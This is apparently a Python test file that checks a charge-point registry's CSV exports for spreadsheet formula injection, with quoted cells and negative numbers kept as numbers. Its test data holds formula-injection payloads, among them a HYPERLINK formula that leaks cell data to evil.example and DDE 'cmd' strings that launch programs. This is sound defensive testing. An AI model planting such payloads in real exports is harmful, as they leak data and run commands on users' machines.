"""CSV exports cannot carry a spreadsheet formula (issue 18, item 6).

Anyone can add a charge point to the registry, so device names and operators (and borough names) are
hostile text. As OWASP advises, a text cell starting with =, +, -, @, a tab or a carriage return is written
with a leading single quote; numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io

import pandas as pd
from sqlalchemy import create_engine, text

from callbacks.common import source
from callbacks.exports import FRAMES, export_csv
from data import queries
from state.selection import default_state
from tests.attack.web_apps import make_app

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+cmd|" /C calc"!A0', "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
# As written: quoted, and the lone CR (which would have started a new row) as a space.
EXPECTED = {"'" + h for h in HOSTILE[:-1]} | {"' =1+1"}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _poison(db: str) -> None:
    engine = create_engine(db)
    with engine.begin() as conn:
        ids = [r[0] for r in conn.execute(text("SELECT device_id FROM devices ORDER BY device_id LIMIT 6"))]
        codes = [r[0] for r in conn.execute(text("SELECT gss_code FROM boroughs ORDER BY gss_code LIMIT 6"))]
        for value, device, code in zip(HOSTILE, ids, codes, strict=True):
            conn.execute(text("UPDATE devices SET name = :v, operator = :v WHERE device_id = :d"), {"v": value, "d": device})
            conn.execute(text("UPDATE boroughs SET name = :v WHERE gss_code = :g"), {"v": value, "g": code})
        conn.execute(text("UPDATE store_meta SET value = value || '1' WHERE key = 'data_version'"))
    engine.dispose()


def _cells(download: dict) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(download["content"], newline="")) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_web_csv001_no_export_cell_starts_a_formula(demo_sqlite):
    _poison(demo_sqlite)
    app = make_app({"DATABASE_URL": demo_sqlite, "RATELIMIT_ENABLED": "0"})
    seen = set()
    with app.server.test_request_context():
        state = default_state(queries.date_bounds(source().db, source().version))
        for kind in FRAMES:
            cells = _cells(export_csv(kind, state))
            formulas = [c for c in cells if c.startswith(TRIGGERS) and not _is_number(c)]
            assert not formulas, (kind, formulas[:3])
            seen |= {c for c in cells if c in EXPECTED}
    assert seen == EXPECTED, "the hostile names never reached an export (the control)"


def test_web_csv002_negative_numbers_stay_numbers():
    from views.csvsafe import csv_safe

    frame = pd.DataFrame({"n": [-3, 4], "x": [-0.5, 1.5], "mixed": [-7, "-7"], "s": ["=1", "ok"]})
    out = csv_safe(frame)
    assert out["n"].tolist() == [-3, 4] and out["x"].tolist() == [-0.5, 1.5]
    assert out["mixed"].tolist() == [-7, "'-7"] and out["s"].tolist() == ["'=1", "ok"]
    assert frame["s"].tolist() == ["=1", "ok"]  # the input is untouched
